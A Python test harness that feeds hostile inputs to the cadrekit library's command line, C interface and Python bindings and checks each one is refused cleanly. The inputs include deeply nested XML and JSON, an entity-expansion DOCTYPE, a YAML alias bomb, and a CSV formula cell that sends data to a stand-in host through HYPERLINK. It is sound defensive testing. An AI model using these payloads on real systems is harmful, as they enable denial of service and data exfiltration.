#!/usr/bin/env python3
"""The hostile suite: each hostile or absurd input of docs/limits.md, made here at run time
(nothing large is stored), given to every surface that reads it — the command line, the C ABI
(through tests/hostile/hostile_c.c) and Python — each call in a child process of its own with
a time limit and, outside the sanitizer builds, a memory limit. A case passes when every
surface refuses the input with the documented error naming the limit (or reads it, where that
is the documented answer), within the limits, and never crashes, hangs, runs out of memory or
reports an internal error. Peak memory is checked where the case bounds it.

Usage: hostile.py --cli CADREKIT --c-driver HOSTILE_C [--pythonpath DIR] --work DIR
                  [--sanitized] [--only NAME]
Standard library only; runs under any Python 3.
"""
import argparse
import os
import pathlib
import resource
import subprocess
import sys
import time

EXIT = {"ok": 0, "invalid_input": 2, "policy": 3}  # docs/cli.md
MIB = 1 << 20

# -- the inputs ---------------------------------------------------------------------------------

FORM = ('<?xml version="1.0" encoding="UTF-8"?>\n<Person><XingMing>{name}</XingMing>'
        '<XingBie>男</XingBie><ChuShengNianYue>198001</ChuShengNianYue></Person>\n')


def form(name_xml):
    return FORM.format(name=name_xml).encode()


def nested_form():
    # 50,000 elements nested inside <XingMing> (350 KB): crashed a recursive reader.
    return FORM.replace("{name}", "<a>" * 50000 + "李" + "</a>" * 50000).encode()


def doctype_form():
    return (b'<?xml version="1.0"?>\n<!DOCTYPE Person [<!ENTITY x "xx"><!ENTITY y "&x;&x;&x;">]>\n'
            b'<Person><XingMing>&y;</XingMing></Person>\n')


def many_nodes_profile():
    # About 20 MB of one-character scalars: yaml-cpp would build about 70 times that.
    return b"profile: big\nparameters: {}\njunk: [" + b",".join([b"0"] * 10_000_000) + b"]\n"


def alias_bomb_profile():
    lines = ["profile: bomb", "parameters: {}", "junk:", "  a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        lines.append(f"  a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return ("\n".join(lines) + "\n").encode()


def negative_pay_profile():
    return ("profile: slip\nextends: tongliao-2016\nparameters:\n  village.base_pay.min:\n"
            "    values:\n      2016-01-01: \"-92233720368547758.08\"\n").encode()


def duplicate_member_request():
    return b'{"as_of":"2017-01-01","as_of":"2016-01-01","units":[]}'


def duplicate_member_table():
    # A row of a JSON table with its budget twice: the command line kept the last, silently.
    return '[{"unit_id":"U1","budget":"1","budget":"600万"}]'.encode()


def inexact_number_table():
    # An id written as a JSON number beyond 64 bits: JSON's reader holds it as a double, and
    # the command line wrote it as 1E23, a changed id.
    return b'[{"unit_id":99999999999999999999999,"budget":"1"}]'


def nul_json_table():
    # \u0000 in a JSON table's cell: refused in the words of the C calls and Python (it was "a NUL
    # character in a text" here alone).
    return b'[{"unit_id":"U1\\u0000x","budget":"1"}]'


def inexact_number_request():
    # The same id in a C request: refused there as a table's row is, not read as 1E23.
    return b'{"as_of":"2016-12-31","units":[{"unit_id":99999999999999999999999,"budget":"1"}]}'


def nested_id_request():
    # An object where an id is wanted: refused in C and in a command-line table alike, never the
    # id "{}" made of its JSON.
    return b'{"as_of":"2016-12-31","units":[{"unit_id":{},"budget":"1"}]}'


def duplicate_member_explanation():
    return (b'{"schema":"cadrekit.explanation/1","subject":"a","subject":"b","uses_assumed":false,'
            b'"rules":[],"parameters":[],"inputs":[]}')


def deep_json():
    return b"[" * 100_000 + b"]" * 100_000


def wide_csv():
    return ("unit_id,name,budget," + ",".join(f"x{i}" for i in range(1_000_000)) + "\nU01,u,5000000\n").encode()


def formula_csv():
    return ('unit_id,name,budget\nU01,"=HYPERLINK(""http://x.example/?""&A1)",5000000\n'
            "U02,+1+1,5000000\nU03,@SUM(A1),5000000\n").encode()


def nul_csv():
    return b"unit_id,name,budget\nU01,a\x00b,5000000\n"


# -- what each surface runs -----------------------------------------------------------------------

# Python children: the input file is sys.argv[1]; a cadrekit.Error prints its code and message,
# anything else escapes as a traceback (and fails the case).
PY_PRELUDE = """
import sys, cadrekit
path = sys.argv[1]
def data(): return open(path, 'rb').read()
def text(): return data().decode('utf-8')
try:
{body}
    print('status ok')
except cadrekit.Error as e:
    print('status', e.code); print(str(e))
"""

TIER = ["audit", "tier", "--as-of", "2016-12-31"]

# name: (make the input, file suffix, {surface: (call, expected code, words in the message)},
#        peak memory allowed in MiB or None, words the CLI's standard output must hold)
CASES = {
    "xml_nested_50000": (nested_form, ".lrmx", {
        "cli": (["import-lrmx", "--strict", "{f}"], "invalid_input", "xml.max_depth"),
        "c": ("lrmx", "invalid_input", "xml.max_depth"),
        "python": ("cadrekit.disclosure.record_from_lrmx(data(), 'r')", "invalid_input", "xml.max_depth"),
    }, None, None),
    "xml_char_ref_nul": (lambda: form("李&#0;"), ".lrmx", {
        "cli": (["import-lrmx", "--strict", "{f}"], "invalid_input", "xml.char_ref"),
        "c": ("lrmx_read", "invalid_input", "xml.char_ref"),
        "python": ("cadrekit.disclosure.read_lrmx(data(), 'r')", "invalid_input", "xml.char_ref"),
    }, None, None),
    "xml_char_ref_surrogate": (lambda: form("李&#xD800;"), ".lrmx", {
        "c": ("lrmx", "invalid_input", "xml.char_ref"),
        "python": ("cadrekit.disclosure.record_from_lrmx(data(), 'r')", "invalid_input", "xml.char_ref"),
    }, None, None),
    "xml_doctype_entities": (doctype_form, ".lrmx", {
        "cli": (["import-lrmx", "--strict", "{f}"], "invalid_input", "xml.doctype"),
        "c": ("lrmx", "invalid_input", "xml.doctype"),
        "python": ("cadrekit.disclosure.record_from_lrmx(data(), 'r')", "invalid_input", "xml.doctype"),
    }, None, None),
    "profile_device": (None, "/dev/zero", {
        "cli": (["policy", "check", "{f}"], "policy", "not a regular file"),
        "c": ("policy_load", "policy", "not a regular file"),
        "python": ("cadrekit.Policy.load(path)", "policy", "not a regular file"),
    }, None, None),
    "profile_extends_device": (lambda: b"profile: z\nextends: /dev/zero\nparameters: {}\n", ".yaml", {
        "cli": (["policy", "check", "{f}"], "policy", "not a regular file"),
        "c": ("policy_load", "policy", "not a regular file"),
        "python": ("cadrekit.Policy.load(path)", "policy", "not a regular file"),
    }, None, None),
    "profile_many_nodes_20mb": (many_nodes_profile, ".yaml", {
        "cli": (["policy", "check", "{f}"], "policy", "policy.max_nodes"),
        "c": ("policy_loads", "policy", "policy.max_nodes"),
        "python": ("cadrekit.Policy.loads(text())", "policy", "policy.max_nodes"),
    }, 3 * 20 + 100, None),
    "profile_alias_bomb": (alias_bomb_profile, ".yaml", {
        "cli": (["policy", "check", "{f}"], "policy", "junk"),
        "c": ("policy_loads", "policy", "junk"),
        "python": ("cadrekit.Policy.loads(text())", "policy", "junk"),
    }, 200, None),
    "profile_negative_base_pay": (negative_pay_profile, ".yaml", {
        "cli": (["policy", "check", "{f}"], "policy", "below the parameter's range"),
        "c": ("policy_loads", "policy", "below the parameter's range"),
        "python": ("cadrekit.Policy.loads(text())", "policy", "below the parameter's range"),
    }, None, None),
    "json_duplicate_member": (duplicate_member_request, ".json", {
        "c": ("tier_json", "invalid_input", "duplicate member (field as_of)"),
    }, None, None),
    "json_duplicate_member_in_a_table": (duplicate_member_table, ".json", {
        "cli": (TIER + ["{f}"], "invalid_input", "duplicate member (field [0].budget"),
    }, None, None),
    "json_inexact_number_in_a_table": (inexact_number_table, ".json", {
        "cli": (TIER + ["--strict", "{f}"], "invalid_input", "too large to be read exactly (write it as text) (field unit_id)"),
    }, None, None),
    "json_nul_in_a_table_cell": (nul_json_table, ".json", {
        "cli": (TIER + ["--strict", "{f}"], "invalid_input", "NUL character in text (field unit_id)"),
    }, None, None),
    "json_row_not_an_object": (lambda: b'[{"unit_id":"U1","budget":"1"}, 7]', ".json", {
        "cli": (TIER + ["--strict", "{f}"], "invalid_input", "must be an object (field json"),
    }, None, None),
    "json_inexact_number_in_a_request": (inexact_number_request, ".json", {
        "c": ("tier_json", "invalid_input",
              "too large to be read exactly (write it as text) (field unit_id, record units[0])"),
    }, None, None),
    "json_nested_value_as_a_table_cell": (lambda: b'[{"unit_id":"U1","budget":"1"},{"unit_id":{},"budget":"2"}]',
                                          ".json", {
        "cli": (TIER + ["--strict", "{f}"], "invalid_input", "[1]: must be text or a number (field unit_id)"),
    }, None, None),
    "json_nested_value_as_an_id_in_a_request": (nested_id_request, ".json", {
        "c": ("tier_json", "invalid_input", "must be text or a number (field unit_id, record units[0])"),
    }, None, None),
    "json_duplicate_member_explanation": (duplicate_member_explanation, ".json", {
        "cli": (["explain", "{f}"], "invalid_input", "duplicate member"),
        "python": ("cadrekit.Explanation.from_json(text())", "invalid_input", "duplicate member"),
    }, None, None),
    "json_deep_100000": (deep_json, ".json", {
        "c": ("tier_json", "invalid_input", "request"),
        "python": ("cadrekit.Explanation.from_json(text())", "invalid_input", "json"),
    }, None, None),
    "csv_header_1000000_columns": (wide_csv, ".csv", {
        "cli": (TIER + ["{f}"], "ok", ""),
    }, None, "U01,"),
    "csv_formula_cells": (formula_csv, ".csv", {
        "cli": (TIER + ["{f}"], "ok", ""),
    }, None, "'=HYPERLINK"),
    "csv_nul_in_a_cell": (nul_csv, ".csv", {
        "cli": (TIER + ["--strict", "{f}"], "invalid_input", "NUL character"),
    }, None, None),
    "python_factor_257": (lambda: b"", ".txt", {
        "python": ("import numpy as np\n    cadrekit.audit.tier_columns(np.zeros(1, np.int64), "
                   "[np.array([257])] + [None] * 8, as_of=__import__('datetime').date(2016, 12, 31))",
                   "invalid_input", "record row 1"),
    }, None, None),
    "python_sex_2_33_plus_2": (lambda: b"", ".txt", {
        "python": ("import numpy as np, datetime as dt\n"
                   "    cadrekit.talent.team_structure_columns(np.array([0]), np.array([2**33 + 2]), "
                   "np.array(['1980-01-01'], 'datetime64[D]'), np.array([1]), np.array([13]), "
                   "as_of=dt.date(2016, 12, 31))",
                   "invalid_input", "sex"),
    }, None, None),
}


# -- running one call ----------------------------------------------------------------------------

def run_child(argv, env, timeout, mem_mib, work):
    """Runs argv with limits; returns (returncode or None on timeout, stdout, stderr, seconds,
    peak RSS of that child alone in MiB, from wait4)."""
    def limit():
        if mem_mib:
            resource.setrlimit(resource.RLIMIT_AS, (mem_mib * MIB, mem_mib * MIB))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    out_path, err_path = work / "child.out", work / "child.err"
    start = time.monotonic()
    with open(out_path, "wb") as out, open(err_path, "wb") as err:
        p = subprocess.Popen(argv, stdout=out, stderr=err, env=env, preexec_fn=limit)
        while True:
            pid, status, usage = os.wait4(p.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - start > timeout:
                p.kill()
                os.wait4(p.pid, 0)
                return None, "", "", timeout, 0
            time.sleep(0.02)
    p.returncode = os.waitstatus_to_exitcode(status)
    return (p.returncode, out_path.read_text("utf-8", "replace"), err_path.read_text("utf-8", "replace"),
            time.monotonic() - start, usage.ru_maxrss / 1024)


def check_call(surface, spec, path, args, out_words):
    call, code, words = spec
    env = dict(os.environ)
    if surface == "cli":
        argv = [args.cli] + [a.replace("{f}", str(path)) for a in call]
    elif surface == "c":
        argv = [args.c_driver, call, str(path)]
    else:
        env["PYTHONPATH"] = args.pythonpath
        argv = [sys.executable, "-c", PY_PRELUDE.format(body="    " + call), str(path)]
    mem = None if args.sanitized else 2048
    rc, out, err, secs, peak = run_child(argv, env, args.timeout, mem, pathlib.Path(args.work))
    problems = []
    if rc is None:
        return [f"no answer within {args.timeout} s"], secs, peak
    if rc < 0:
        return [f"killed by signal {-rc}: {err[-400:]!r}"], secs, peak
    for bad in ("internal", "bad_alloc", "Traceback", "AddressSanitizer", "runtime error:"):
        if bad in err or bad in out:
            problems.append(f"{bad!r} in the output: {(err or out)[-600:]!r}")
    if surface == "cli":
        if rc != EXIT[code]:
            problems.append(f"exit {rc}, expected {EXIT[code]} ({code}); stderr {err[-300:]!r}")
        if code != "ok" and (f"cadrekit: {code}:" not in err or words not in err):
            problems.append(f"stderr {err[-300:]!r} does not say {code} and {words!r}")
        if out_words and out_words not in out:
            problems.append(f"standard output does not hold {out_words!r}")
    else:
        first, _, message = out.partition("\n")
        if rc != 0 or first.strip() != f"status {code}" or words not in message:
            problems.append(f"exit {rc}, answer {out[-300:]!r} {err[-300:]!r}; expected {code} and {words!r}")
    return problems, secs, peak


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cli", required=True)
    ap.add_argument("--c-driver", required=True)
    ap.add_argument("--pythonpath", default="")
    ap.add_argument("--work", required=True)
    ap.add_argument("--sanitized", action="store_true", help="no memory limit (the sanitizers reserve address space)")
    ap.add_argument("--only", default="")
    ap.add_argument("--timeout", type=float, default=120)
    args = ap.parse_args()
    work = pathlib.Path(args.work)
    work.mkdir(parents=True, exist_ok=True)
    surfaces = ["cli", "c"] + (["python"] if args.pythonpath else [])

    failures, ran = [], 0
    for name, (make, suffix, calls, mem_bound, out_words) in CASES.items():
        if args.only and name != args.only:
            continue
        if make is None:
            path = pathlib.Path(suffix)
        else:
            path = work / (name + suffix)
            path.write_bytes(make())
        for surface in surfaces:
            if surface not in calls:
                continue
            problems, secs, peak = check_call(surface, calls[surface], path, args, out_words)
            ran += 1
            if mem_bound and not args.sanitized and peak > mem_bound:
                problems.append(f"peak memory {peak:.0f} MiB, more than the {mem_bound} MiB allowed")
            status = "ok" if not problems else "FAILED"
            print(f"hostile: {name} [{surface}]: {status} in {secs:.1f} s, peak {peak:.0f} MiB")
            failures += [f"{name} [{surface}]: {p}" for p in problems]
        if make is not None and path.exists():
            path.unlink()
    if failures:
        print("\n".join(failures), file=sys.stderr)
        return 1
    if ran == 0:
        print("hostile: no case ran", file=sys.stderr)
        return 1
    print(f"hostile: {ran} calls refused or read as documented ({', '.join(surfaces)})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
